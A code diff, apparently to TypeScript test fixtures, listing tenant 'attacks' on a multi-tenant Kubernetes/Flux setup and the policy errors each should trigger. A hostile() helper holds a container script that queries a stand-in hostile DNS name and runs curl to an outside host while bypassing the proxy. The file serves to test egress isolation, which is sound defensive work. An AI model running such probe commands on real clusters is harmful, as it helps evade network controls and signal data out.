@@ -1,7 +1,8 @@
+import { inContainer } from '../../_change';
 import { deployment, pod } from './_shop';
 
 /** What a tenant's repository holds beside the shop, or instead, and what Flux reports of it. */
-export type Attack = readonly [title: string, object: object, reason: RegExp];
+type Attack = readonly [title: string, object: object, reason: RegExp];
 
 const KUSTOMIZE = 'kustomize.toolkit.fluxcd.io/v1';
 const RBAC = 'rbac.authorization.k8s.io';
@@ -89,11 +90,7 @@ export const AND_MORE: readonly Attack[] = [
   ],
   [
     'runs pods that are told of no proxy',
-    deployment(
-      pod((spec) => {
-        delete spec.containers[0].env;
-      }),
-    ),
+    deployment(pod(inContainer({ env: undefined }))),
     /tenant client-a: every container is told of the tenant’s proxy, and these are not: shop/,
   ],
   [
@@ -143,9 +140,5 @@ export function hostile(web: string, dns: string): object {
 timeout 2 nslookup -type=a message.hostile.example ${dns}
 curl -s --noproxy '' --max-time 2 --proxy http://172.16.28.9:3128 http://ifconfig.me/hostile
 echo tried; sleep 3600`;
-  return deployment(
-    pod((spec) => {
-      spec.containers[0].command = ['sh', '-c', script];
-    }),
-  );
+  return deployment(pod(inContainer({ command: ['sh', '-c', script] })));
 }
